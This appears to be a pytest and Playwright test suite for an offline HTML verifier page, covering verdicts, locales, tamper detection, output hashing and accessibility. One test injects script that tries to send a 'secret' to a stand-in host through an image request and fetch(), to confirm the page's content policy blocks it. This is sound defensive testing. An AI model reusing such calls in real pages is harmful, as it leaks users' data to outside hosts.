"""The verifier as one file, opened from the disk in a real Chromium without a network: green on what holds, on nothing else."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from hashlib import sha256
from importlib.resources import files
from pathlib import Path
from typing import Any, Literal

import pytest
from fakes.bundle_cases import BUNDLES, DROP, text_of
from playwright.sync_api import Browser, Page
from rig.server import SUXIN
from rig.static_files import WITHOUT_ED25519

from suxin.api.verifier import verifier_html

POLICIES: dict[str, str] = BUNDLES["policies"]
CASES: list[dict[str, Any]] = BUNDLES["cases"]
Opener = Callable[[str], Page]


@contextmanager
def offline(browser: Browser, folder: Path, script: str = "", **more: Any) -> Iterator[Opener]:
    """Opens files of the verifier, by the name of a policy, in a browser that has no network; nothing may be asked for."""
    context = browser.new_context(offline=True, viewport={"width": 390, "height": 844}, **more)
    context.add_init_script(script)
    asked: list[str] = []
    complaints: list[str] = []
    due: list[str] = []

    def open_file(policy: str) -> Page:
        file = folder / f"verify {policy}.html"
        file.write_bytes(verifier_html(POLICIES[policy].encode()))
        page = context.new_page()
        page.on("request", lambda request: asked.append(request.url))
        page.on("console", lambda message: complaints.append(message.text))
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.goto(file.as_uri())
        due.append(file.as_uri())
        return page

    yield open_file
    assert asked == due, "the file asked for something"
    assert complaints == []
    context.close()


def judged(page: Page, cases: list[dict[str, Any]]) -> list[tuple[str, dict[str, Any]]]:
    """The cases that the page did not judge as they say."""
    wrong = []
    for case, found in zip(cases, page.evaluate(DROP, [[text_of(case), case["now_ms"]] for case in cases]), strict=True):
        current = "current" in case["results"]
        due = "open" if case["verdict"] == "holds" and current else case["verdict"]
        if (found["state"], found["results"]) != (due, case["results"]):
            wrong.append((case["name"], found))
    return wrong


def test_every_vector_is_judged_from_the_disk(browser: Browser, tmp_path: Path) -> None:
    refused = [case for case in CASES if case["verdict"] != "holds"]
    assert len(refused) >= 150
    assert {case["policy"] for case in CASES} == set(POLICIES)
    with offline(browser, tmp_path) as open_file:
        for policy in POLICIES:
            assert judged(open_file(policy), [case for case in CASES if case["policy"] == policy]) == []


def test_without_ed25519_the_library_inside_checks(browser: Browser, tmp_path: Path) -> None:
    some = [case for case in CASES if case["policy"] == "log"][::9]
    assert {"holds", "fails"} <= {case["verdict"] for case in some}
    with offline(browser, tmp_path, WITHOUT_ED25519) as open_file:
        assert judged(open_file("log"), some) == []


@pytest.mark.parametrize(("locale", "words", "other"), [("zh-CN", "✓ 成立", "✓ Holds"), ("en-GB", "✓ Holds", "✓ 成立")])
def test_it_speaks_the_reader_s_language_and_the_other(
    browser: Browser, tmp_path: Path, locale: str, words: str, other: str
) -> None:
    case = next(case for case in CASES if case["policy"] == "log" and case["verdict"] == "holds" and not case["results"])
    with offline(browser, tmp_path, locale=locale) as open_file:
        page = open_file("log")
        page.evaluate(DROP, [[text_of(case), case["now_ms"]]])
        assert page.locator(".verdict").inner_text() == words
        page.locator("[data-lang][aria-pressed=false]").click()
        page.locator(".verdict", has_text=other).wait_for()
        assert page.locator("#policy").inner_text() == POLICIES["log"]
        assert page.evaluate("() => document.documentElement.scrollWidth - document.documentElement.clientWidth") == 0


def test_a_file_with_one_letter_changed_in_its_script_does_nothing(browser: Browser, tmp_path: Path) -> None:
    page_bytes = verifier_html(POLICIES["log"].encode())
    changed = page_bytes.replace(b'"log-unknown"', b'"log_unknown"', 1)
    assert changed != page_bytes
    file = tmp_path / "changed.html"
    file.write_bytes(changed)
    page = browser.new_page()
    page.goto(file.as_uri())
    assert page.locator("#check").is_hidden(), "its own policy forbids every script but one"
    page.close()


def test_nothing_can_be_asked_even_by_what_is_inside(browser: Browser, tmp_path: Path) -> None:
    """Its own policy stands in the way, also where there is a network."""
    file = tmp_path / "verify.html"
    file.write_bytes(verifier_html(POLICIES["log"].encode()))
    page = browser.new_page()
    asked: list[str] = []
    page.on("requestfinished", lambda request: asked.append(request.url))
    page.on("requestfailed", lambda request: asked.append(str(request.failure)))
    page.goto(file.as_uri())
    refused = page.evaluate(
        """() => new Promise((tell) => {
          const found = [];
          document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
            found.push(effectiveDirective);
            if (found.length === 2) tell(found.sort());
          });
          new Image().src = "https://suxin.example/told?secret";
          fetch("https://suxin.example/told?secret").catch(() => null);
        })"""
    )
    assert refused == ["connect-src", "img-src"]
    assert set(asked) <= {file.as_uri(), "csp"}
    page.close()


def test_the_command_writes_the_same_bytes_each_time_and_prints_their_hash(tmp_path: Path) -> None:
    policy = tmp_path / "policy"
    policy.write_text(POLICIES["full witness"])
    run = [*SUXIN, "verifier", "--policy", str(policy), "--out"]
    plain = subprocess.run([*run, tmp_path / "a.html"], capture_output=True, text=True, check=True).stdout
    told = json.loads(subprocess.run([*run, tmp_path / "b.html", "--json"], capture_output=True, text=True, check=True).stdout)
    written = (tmp_path / "a.html").read_bytes()
    assert written == (tmp_path / "b.html").read_bytes() == verifier_html(policy.read_bytes())
    digest = sha256(written).hexdigest()
    assert plain.split()[0] == told["sha256"] == digest
    assert told["policy_sha256"] == sha256(policy.read_bytes()).hexdigest()


@pytest.mark.parametrize(
    ("policy", "words"),
    [(b"quorum nobody\n", "nobody"), (b"log x\n", "vkey"), (b"# \xff\nquorum none\n", "UTF-8"), (None, "No such file")],
)
def test_a_policy_that_cannot_be_read_is_refused_in_one_line(tmp_path: Path, policy: bytes | None, words: str) -> None:
    file = tmp_path / "policy"
    if policy is not None:
        file.write_bytes(policy)
    run = subprocess.run(
        [*SUXIN, "verifier", "--policy", str(file), "--out", str(tmp_path / "out.html")],
        capture_output=True,
        text=True,
        check=False,
    )
    assert run.returncode == 1
    assert words in run.stderr
    assert run.stderr.count("\n") == 1
    assert "Traceback" not in run.stderr
    assert not (tmp_path / "out.html").exists()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_file_is_accessible(browser: Browser, tmp_path: Path, scheme: Literal["light", "dark"]) -> None:
    case = next(case for case in CASES if case["policy"] == "log" and case["verdict"] == "fails")
    file = tmp_path / "verify.html"
    file.write_bytes(verifier_html(POLICIES["log"].encode()))
    context = browser.new_context(viewport={"width": 320, "height": 844}, color_scheme=scheme)
    page = context.new_page()
    page.goto(file.as_uri())
    page.evaluate(DROP, [[text_of(case), case["now_ms"]]])
    page.evaluate(files("axe_playwright_python").joinpath("axe.min.js").read_text(encoding="utf-8"))
    run = "async () => (await axe.run({resultTypes: ['violations']})).violations.map(v => [v.id, v.nodes[0].html].join(' '))"
    assert page.evaluate(run) == []
    assert page.evaluate("() => document.documentElement.scrollWidth - document.documentElement.clientWidth") == 0
    context.close()
